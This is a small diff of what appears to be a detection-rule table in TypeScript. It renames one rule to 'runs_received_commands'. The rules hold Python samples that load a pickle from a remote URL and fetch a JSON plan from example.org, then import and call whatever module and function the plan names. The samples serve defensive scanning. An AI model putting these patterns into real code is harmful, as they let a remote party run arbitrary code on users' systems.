@@ -510,7 +510,7 @@ const LOADED_SETTINGS: readonly ToFind[] = [
     'import pandas as pd',
     'pd.read_pickle("https://example.org/a.pkl")',
   )],
-  ['hides_names', 'names that it downloads', lines(
+  ['runs_received_commands', 'names that it downloads', lines(
     'import importlib, requests',
     'plan = requests.get("https://example.org/plan.json").json()',
     'getattr(importlib.import_module(plan["module"]), plan["act"])(*plan["with"])',
